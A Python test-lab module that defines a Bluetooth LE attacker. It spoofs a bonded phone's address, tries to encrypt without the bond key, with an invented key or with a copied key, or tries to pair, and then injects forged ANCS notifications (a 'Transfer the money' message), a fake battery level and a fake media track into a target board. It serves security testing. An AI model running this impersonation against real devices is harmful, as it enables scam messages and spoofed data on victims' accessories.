# SPDX-License-Identifier: GPL-3.0-or-later
"""A device that uses the address of a bonded phone, and has what a phone has but the bond's key."""

import asyncio
import copy
from dataclasses import replace
from enum import Enum

from bumble import hci
from bumble.core import BaseBumbleError
from bumble.device import Connection

from Harness import ancs
from Harness.ancs import Notification
from Lab.phone import Io, Phone, User
from Lab.radio import Antenna


class Way(Enum):
    """What the attacker does about the key that it lacks."""

    IGNORES = "does without encryption"
    INVENTS = "encrypts with a key of its own"
    STEALS = "encrypts with the bond's key"
    PAIRS = "pairs"
    OBEYS = "pairs once the board asks it to encrypt"


class Attacker(Phone):
    """An attacker. Its notification, its battery and its player are told apart from all others'."""

    NEWS = Notification(66, "com.evil", "evil title", message="Transfer the money")
    BATTERY = 7

    def __init__(self, antenna: Antenna, victim: Phone) -> None:
        profile = replace(victim.server.profile, waits=False)
        super().__init__(antenna, victim.address, name="evil name", profile=profile)
        self.victim = victim
        self.services.battery_level = self.BATTERY
        self.ancs.post(self.NEWS)
        self.way = Way.IGNORES
        self.begin()

    def begin(self) -> None:
        """Forgets the last attempt."""
        self.refusals, self.pairings = [], 0
        self.links = 0
        self.asked = False  # whether the board has sent a Security Request
        self.was_encrypted = False

    @property
    def answered(self) -> bool:
        """Whether its pairing has ended."""
        return bool(self.refusals or self.pairings)

    async def attack(self, board: str, way: Way, io: Io, heard: hci.Address) -> None:
        """Connects as soon as the board can be connected to, with an address of the phone that was heard on the air."""
        self.begin()
        self.way, self.user = way, User(io)
        self.bonds.all_keys = copy.deepcopy(self.victim.bonds.all_keys) if way in (Way.INVENTS, Way.STEALS) else {}
        if way is Way.INVENTS:
            self.spoil_key()
        await self.device.send_sync_command(hci.HCI_LE_Set_Random_Address_Command(random_address=heard))
        self.device.random_address = heard
        connection = await self.initiate(hci.Address(board, hci.Address.PUBLIC_DEVICE_ADDRESS), within=20)
        try:
            if way is Way.PAIRS:
                await self.pair(connection)
            elif way in (Way.INVENTS, Way.STEALS):
                await connection.encrypt()
        except (asyncio.CancelledError, BaseBumbleError):  # its key is of no use, or the link has ended
            if asyncio.current_task().cancelling():  # type: ignore[union-attr]
                raise

    def on_connection(self, connection: Connection) -> None:
        super().on_connection(connection)
        connection.encryption = 1  # its server shall refuse nothing
        self.links += 1

        def on_encryption() -> None:
            self.was_encrypted = True

        connection.on(Connection.EVENT_CONNECTION_ENCRYPTION_CHANGE, on_encryption)
        self.talking = asyncio.get_running_loop().create_task(self.talk(connection))

    async def on_security_request(self, _auth: int) -> None:
        self.asked = True
        if self.way is Way.OBEYS and self.connection is not None:
            await self.pair(self.connection)

    async def talk(self, connection: Connection) -> None:
        """Sends what a phone sends to a board that has subscribed, at the handles of the phone's database."""
        flags, category = 0, self.NEWS.category
        news = ancs.source_value(ancs.ADDED, flags, category, 1, self.NEWS.uid)
        values = {
            self.ancs.source: news, self.services.battery: bytes([self.BATTERY]),
            self.ams.update: b"\x02\x02\x00evil track",
        }
        while self.connection is connection:
            for characteristic, value in values.items():
                self.server.send(connection, b"\x1b" + characteristic.handle.to_bytes(2, "little") + value)
            await asyncio.sleep(0.5)
